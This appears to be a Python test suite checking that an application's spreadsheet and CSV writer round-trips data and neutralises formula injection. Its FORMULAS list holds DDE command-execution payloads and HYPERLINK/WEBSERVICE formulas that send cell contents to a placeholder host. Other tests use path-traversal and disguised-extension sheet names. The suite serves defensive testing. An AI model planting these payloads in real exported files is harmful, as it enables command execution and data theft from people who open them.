"""What is written reads back the same, runs nothing, and appears only when complete."""

from __future__ import annotations

import csv
import tempfile
from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from app.problems import FileProblem
from app.table.reading import open_table
from app.table.shape import ReadingChoice
from app.table.writing import write_table

HEADER = ["Name", "Phone", "Note"]
_LEGAL = st.characters(exclude_categories=["Cs", "Cc"], exclude_characters="\ufffe\uffff\ufeff")
_TEXT = st.text(st.one_of(_LEGAL, st.sampled_from("\n\t=+-@_x0041_&<>'\" ")), max_size=30)


def _read(path: Path, header_row: int | None = None) -> list[tuple[str, ...]]:
    with open_table(path, ReadingChoice(header_row=header_row)) as table:
        return [row.cells for row in table.rows()]


@settings(max_examples=60)
@given(st.lists(st.tuples(_TEXT, _TEXT), min_size=1, max_size=8))
def test_a_written_workbook_reads_back_the_same(rows: list[tuple[str, str]]) -> None:
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "out.xlsx"
        expected = [("end", first, second) for first, second in rows]
        write_table(path, HEADER, expected)
        assert _read(path) == expected


@settings(max_examples=60)
@given(st.lists(st.tuples(_TEXT, _TEXT), min_size=1, max_size=8))
def test_a_written_text_file_reads_back_the_same(rows: list[tuple[str, str]]) -> None:
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "out.csv"
        write_table(path, HEADER, [("end", first, second) for first, second in rows])
        # Apostrophes disarm formulas, at the start and behind what other spreadsheets cut cells at.
        read = [tuple(cell.replace("'", "") for cell in row) for row in _read(path, 1)]
        assert read == [("end", first.replace("'", ""), second.replace("'", "")) for first, second in rows]


def test_no_cell_of_a_workbook_is_a_formula_or_a_number(tmp_path: Path) -> None:
    path = tmp_path / "out.xlsx"
    write_table(path, HEADER, [("=1+1", "+393471234567", "@SUM(A1)")], sheet="Re: [all]/new")
    sheet = load_workbook(path).active
    assert sheet is not None
    assert sheet.title == "Re   all  new"
    assert [(cell.data_type, cell.number_format) for cell in next(sheet.iter_rows(min_row=2))] == [
        ("s", "@")
    ] * 3


def test_a_workbook_has_a_bold_frozen_header_and_a_filter(tmp_path: Path) -> None:
    path = tmp_path / "out.xlsx"
    write_table(path, HEADER, [("a", "b", "c"), ("d", "", "f")], widths=[10, 20])
    sheet = load_workbook(path).active
    assert sheet is not None
    assert (sheet.freeze_panes, sheet.auto_filter.ref) == ("A2", "A1:C3")
    assert sheet["A1"].font.bold
    assert sheet.column_dimensions["B"].width == 20


def test_characters_no_workbook_can_hold_are_left_out(tmp_path: Path) -> None:
    path = tmp_path / "out.xlsx"
    write_table(path, HEADER, [("a\x00\x0bb", "\ud800c", "d\r\ne" + "x" * 40_000)])
    first, second, third = _read(path)[0]
    assert (first, second) == ("ab", "c")
    assert third.startswith("d\nex")
    assert len(third) == 32_767


def test_formulas_in_text_files_are_disarmed_and_phones_are_not(tmp_path: Path) -> None:
    path = tmp_path / "out.csv"
    cells = ("=1+1", "+39 347 123-4567", "-1+cmd")
    write_table(path, HEADER, [cells])
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")
    assert _read(path) == [("'=1+1", "+39 347 123-4567", "'-1+cmd")]


FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://192.0.2.1/?"&A1,"here")',
    '=WEBSERVICE("http://192.0.2.1/"&A1)',
    '=DDE("cmd";"/C calc";"x")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
    "\uff0bcmd|' /C calc'!A0",
    "\uff20SUM(1)",
    "anna;=cmd|' /C calc'!A0",
    "anna\t=cmd|' /C calc'!A0",
    "anna; +cmd|' /C calc'!A0",
    "anna;-2+cmd|' /C calc'!A0",
)


@pytest.mark.parametrize("separator", [",", ";", "\t"])
@pytest.mark.parametrize("formula", FORMULAS)
def test_no_formula_gets_through_whatever_the_separator(formula: str, separator: str, tmp_path: Path) -> None:
    path = tmp_path / "out.csv"
    write_table(path, [formula, "b", "c"], [(formula, "b", "c")])
    with path.open(encoding="utf-8-sig", newline="") as stream:
        cells = [cell for row in csv.reader(stream, delimiter=separator) for cell in row]
    assert [cell for cell in cells if cell.strip(' "').startswith(("=", "+", "-", "@", *"＝＋－＠"))] == []


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_formula_gets_through_in_a_workbook(formula: str, tmp_path: Path) -> None:
    path = tmp_path / "out.xlsx"
    write_table(path, [formula, "b", "c"], [(formula, "b", "c")], sheet=formula)
    sheet = load_workbook(path).active
    assert sheet is not None
    assert {cell.data_type for row in sheet.iter_rows() for cell in row} == {"s"}


@pytest.mark.parametrize("name", ["../../escaped", "/escaped", "C:\\escaped", "a" * 300, "\u202exslx.exe"])
def test_the_name_of_a_sheet_leads_nowhere(name: str, tmp_path: Path) -> None:
    (tmp_path / "in").mkdir()
    write_table(tmp_path / "in" / "out.xlsx", HEADER, [("a", "b", "c")], sheet=name)
    assert [path.name for path in tmp_path.rglob("*")] == ["in", "out.xlsx"]


def test_a_failure_on_the_way_leaves_the_old_file_and_no_other(tmp_path: Path) -> None:
    path = tmp_path / "out.xlsx"
    path.write_text("old")

    def rows() -> Iterator[tuple[str, str, str]]:
        yield "a", "b", "c"
        raise KeyboardInterrupt

    with pytest.raises(KeyboardInterrupt):
        write_table(path, HEADER, rows())
    assert path.read_text() == "old"
    assert list(tmp_path.iterdir()) == [path]


def test_a_place_that_takes_no_files_is_a_problem(tmp_path: Path) -> None:
    with pytest.raises(FileProblem, match="saved"):
        write_table(tmp_path / "nowhere" / "out.xlsx", HEADER, [])
    (tmp_path / "taken.csv").mkdir()
    with pytest.raises(FileProblem, match="saved"):
        write_table(tmp_path / "taken.csv", HEADER, [])
